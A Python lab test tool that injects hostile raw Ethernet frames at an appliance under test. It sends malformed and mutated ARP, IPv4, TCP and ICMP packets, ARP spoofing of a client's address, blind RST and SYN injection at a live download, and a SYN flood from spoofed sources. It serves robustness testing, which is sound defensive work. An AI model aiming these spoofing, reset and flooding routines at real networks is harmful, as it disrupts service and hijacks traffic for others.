#!/usr/bin/env python3
"""A hostile-frame injector for appliance/tests/lab_hostile_frames.rs: from
the client namespace, over an AF_PACKET socket, it sends a box malformed,
truncated and randomly mutated Ethernet/ARP/IPv4/TCP/ICMP frames, ARP
spoofing of the client's address, blind RSTs and SYNs at a live download's
4-tuple with guessed sequence numbers (RFC 5961), and a SYN flood from
spoofed sources at port 80. It knows nothing of the box but its addresses;
the test checks what the box made of it.

Usage: hostile_frames.py IFACE CLIENT_IP BOX_IP BOX_MAC SEED SECONDS
Prints `key=value` lines (frames sent per kind); exits 0 when it ran.
"""
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def mac_bytes(text):
    return bytes(int(x, 16) for x in text.split(":"))


def ip_bytes(text):
    return socket.inet_aton(text)


class Frames:
    def __init__(self, rng, iface, client_ip, box_ip, box_mac):
        self.rng = rng
        self.client_ip = ip_bytes(client_ip)
        self.box_ip = ip_bytes(box_ip)
        self.box_mac = mac_bytes(box_mac)
        with open("/sys/class/net/%s/address" % iface) as f:
            self.my_mac = mac_bytes(f.read().strip())

    def rand_mac(self):
        # Locally administered unicast.
        b = bytearray(self.rng.getrandbits(8) for _ in range(6))
        b[0] = (b[0] & 0xFC) | 0x02
        return bytes(b)

    def eth(self, payload, ethertype=ETH_P_IP, src=None, dst=None):
        return (dst or self.box_mac) + (src or self.my_mac) + struct.pack("!H", ethertype) + payload

    def ipv4(self, payload, src=None, proto=6, ident=None, frag=0x4000, ttl=64,
             ihl=5, total=None, version=4, options=b"", bad_csum=False):
        src = src or self.client_ip
        ident = self.rng.getrandbits(16) if ident is None else ident
        total = 20 + len(options) + len(payload) if total is None else total
        hdr = struct.pack("!BBHHHBBH4s4s", (version << 4) | ihl, 0, total & 0xFFFF, ident,
                          frag, ttl, proto, 0, src, self.box_ip) + options
        c = csum(hdr)
        if bad_csum:
            c ^= 1 + self.rng.getrandbits(15)
        return hdr[:10] + struct.pack("!H", c) + hdr[12:] + payload

    def tcp(self, sport, dport, seq, ack, flags, payload=b"", options=b"", src=None,
            off=None, bad_csum=False, window=65535):
        src = src or self.client_ip
        off = (20 + len(options)) // 4 if off is None else off
        hdr = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                          (off & 0xF) << 4, flags, window, 0, 0)
        seg = hdr + options + payload
        pseudo = src + self.box_ip + struct.pack("!BBH", 0, 6, len(seg))
        c = csum(pseudo + seg)
        if bad_csum:
            c ^= 1 + self.rng.getrandbits(15)
        return seg[:16] + struct.pack("!H", c) + seg[18:]

    def icmp(self, icmp_type, code, body, bad_csum=False):
        hdr = struct.pack("!BBHI", icmp_type, code, 0, self.rng.getrandbits(32)) + body
        c = csum(hdr)
        if bad_csum:
            c ^= 1 + self.rng.getrandbits(15)
        return hdr[:2] + struct.pack("!H", c) + hdr[4:]

    def arp(self, op, sha, spa, tha, tpa, hlen=6, plen=4, htype=1):
        return struct.pack("!HHBBH", htype, ETH_P_IP, hlen, plen, op) + sha + spa + tha + tpa

    def stranger_port(self):
        # Below the client kernel's ephemeral range (32768-60999), so the
        # box's RSTs to these never look like RSTs to a real connection.
        return 1024 + self.rng.randrange(31000)


def malformed(f, rng):
    """One malformed frame and its kind."""
    sport = f.stranger_port()
    good_tcp = f.tcp(sport, 80, rng.getrandbits(32), 0, SYN)
    kinds = [
        ("eth_runt", lambda: f.eth(b"")[: rng.randrange(6, 14)]),
        ("eth_unknown_type", lambda: f.eth(rng.randbytes(46), ethertype=0x88B5)),
        ("arp_short", lambda: f.eth(f.arp(1, f.my_mac, f.client_ip, bytes(6), f.box_ip)[: rng.randrange(0, 27)], ETH_P_ARP)),
        ("arp_bad_hlen", lambda: f.eth(f.arp(1, f.my_mac, f.client_ip, bytes(6), f.box_ip, hlen=rng.choice([0, 4, 8, 255])), ETH_P_ARP)),
        ("arp_bad_htype", lambda: f.eth(f.arp(1, f.my_mac, f.client_ip, bytes(6), f.box_ip, htype=rng.choice([0, 6, 0xFFFF])), ETH_P_ARP)),
        ("ipv4_short", lambda: f.eth(f.ipv4(good_tcp)[: rng.randrange(0, 20)])),
        ("ipv4_bad_version", lambda: f.eth(f.ipv4(good_tcp, version=rng.choice([0, 5, 6, 15])))),
        ("ipv4_ihl_small", lambda: f.eth(f.ipv4(good_tcp, ihl=rng.randrange(0, 5)))),
        ("ipv4_ihl_lie", lambda: f.eth(f.ipv4(good_tcp, ihl=15, total=20 + len(good_tcp)))),
        ("ipv4_total_long", lambda: f.eth(f.ipv4(good_tcp, total=20 + len(good_tcp) + rng.randrange(1, 3000)))),
        ("ipv4_total_short", lambda: f.eth(f.ipv4(good_tcp, total=rng.randrange(0, 20)))),
        ("ipv4_bad_checksum", lambda: f.eth(f.ipv4(good_tcp, bad_csum=True))),
        ("ipv4_fragment_mf", lambda: f.eth(f.ipv4(good_tcp, frag=0x2000))),
        ("ipv4_fragment_offset", lambda: f.eth(f.ipv4(good_tcp[:8], frag=rng.randrange(1, 0x1FFF)))),
        ("ipv4_options_overrun", lambda: f.eth(f.ipv4(good_tcp, ihl=6, options=bytes([0x44, 40, 5, 0])))),
        ("ipv4_unknown_proto", lambda: f.eth(f.ipv4(rng.randbytes(20), proto=rng.choice([0, 17, 47, 132, 255])))),
        ("tcp_short", lambda: f.eth(f.ipv4(good_tcp[: rng.randrange(0, 20)]))),
        ("tcp_off_small", lambda: f.eth(f.ipv4(f.tcp(sport, 80, 1, 0, SYN, off=rng.randrange(0, 5))))),
        ("tcp_off_lie", lambda: f.eth(f.ipv4(f.tcp(sport, 80, 1, 0, SYN, off=15)))),
        ("tcp_bad_checksum", lambda: f.eth(f.ipv4(f.tcp(sport, 80, 1, 0, SYN, bad_csum=True)))),
        ("tcp_options_overrun", lambda: f.eth(f.ipv4(f.tcp(sport, 80, 1, 0, SYN, options=bytes([2, 40, 5, 180]))))),
        ("tcp_option_zero_len", lambda: f.eth(f.ipv4(f.tcp(sport, 80, 1, 0, SYN, options=bytes([8, 0, 0, 0]))))),
        ("tcp_bad_flags", lambda: f.eth(f.ipv4(f.tcp(sport, 80, 1, 0, rng.choice([SYN | FIN, SYN | RST, 0, FIN | PSH | 0x20]))))),
        ("icmp_short", lambda: f.eth(f.ipv4(rng.randbytes(rng.randrange(0, 8)), proto=1))),
        ("icmp_bad_checksum", lambda: f.eth(f.ipv4(f.icmp(8, 0, rng.randbytes(32), bad_csum=True), proto=1))),
        ("icmp_odd_type", lambda: f.eth(f.ipv4(f.icmp(rng.choice([3, 5, 11, 13, 42, 255]), rng.randrange(16), rng.randbytes(28)), proto=1))),
    ]
    kind, make = rng.choice(kinds)
    return kind, make()


def mutated(f, rng):
    """A valid frame with random bytes flipped, truncated or extended."""
    sport = f.stranger_port()
    base = bytearray(f.eth(f.ipv4(f.tcp(sport, 80, rng.getrandbits(32), 0, SYN,
                                        options=bytes([2, 4, 5, 180, 1, 3, 3, 7, 4, 2, 1, 1])))))
    for _ in range(rng.randrange(1, 6)):
        i = rng.randrange(12, len(base))
        # The ports stay: a mutated port could land on a real connection's.
        if not 34 <= i < 38:
            base[i] = rng.getrandbits(8)
    r = rng.random()
    if r < 0.2:
        base = base[: rng.randrange(14, len(base))]
    elif r < 0.4:
        base += rng.randbytes(rng.randrange(1, 64))
    return bytes(base)


def client_tuple(box_ip):
    """The client's established connection to BOX_IP:80 (from /proc)."""
    want = "%08X:0050" % struct.unpack("<I", ip_bytes(box_ip))[0]
    with open("/proc/net/tcp") as fp:
        for line in fp.readlines()[1:]:
            fields = line.split()
            local, remote, state = fields[1], fields[2], fields[3]
            if remote == want and state == "01":
                return int(local.split(":")[1], 16)
    return None


def main():
    iface, client_ip, box_ip, box_mac, seed, seconds = sys.argv[1:7]
    rng = random.Random(int(seed))
    f = Frames(rng, iface, client_ip, box_ip, box_mac)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((iface, 0))
    sent = {}

    def send(kind, frame):
        try:
            sock.send(frame)
            sent[kind] = sent.get(kind, 0) + 1
        except OSError:
            sent[kind + "_refused"] = sent.get(kind + "_refused", 0) + 1

    dport = client_tuple(box_ip)
    if dport is None:
        print("error=no established connection to %s:80" % box_ip)
        return 1
    print("download_port=%d" % dport)
    deadline = time.monotonic() + float(seconds)
    n = 0
    while time.monotonic() < deadline:
        n += 1
        for _ in range(8):
            kind, frame = malformed(f, rng)
            send(kind, frame)
        for _ in range(4):
            send("mutated", mutated(f, rng))
        # Blind RST and SYN at the download's 4-tuple: guessed sequence
        # numbers spread over the space; RFC 5961 allows at most a
        # challenge ACK for these.
        for _ in range(2):
            seq = rng.getrandbits(32)
            send("blind_rst", f.eth(f.ipv4(f.tcp(dport, 80, seq, 0, RST))))
            send("blind_rst_ack", f.eth(f.ipv4(f.tcp(dport, 80, seq, rng.getrandbits(32), RST | ACK))))
        send("blind_syn", f.eth(f.ipv4(f.tcp(dport, 80, rng.getrandbits(32), 0, SYN, options=bytes([2, 4, 5, 180])))))
        # ARP spoofing of the client's address from another MAC: gratuitous
        # replies and requests claiming 198.18.0.100.
        if n % 4 == 0:
            liar = f.rand_mac()
            op = rng.choice([1, 2])
            tpa = f.client_ip if rng.random() < 0.5 else f.box_ip
            dst = f.box_mac if rng.random() < 0.5 else b"\xff" * 6
            send("arp_spoof", f.eth(f.arp(op, liar, f.client_ip, bytes(6) if op == 1 else f.box_mac, tpa),
                                    ETH_P_ARP, src=liar, dst=dst))
        # SYN flood from spoofed sources on the front LAN that nobody owns.
        for _ in range(24):
            src = bytes([198, 18, 0, 130 + rng.randrange(100)])
            send("syn_flood", f.eth(f.ipv4(f.tcp(f.stranger_port(), 80, rng.getrandbits(32), 0, SYN,
                                                 options=bytes([2, 4, 5, 180]), src=src), src=src),
                                    src=f.rand_mac()))
        time.sleep(0.002)
    for k in sorted(sent):
        print("%s=%d" % (k, sent[k]))
    print("rounds=%d" % n)
    return 0


if __name__ == "__main__":
    sys.exit(main())
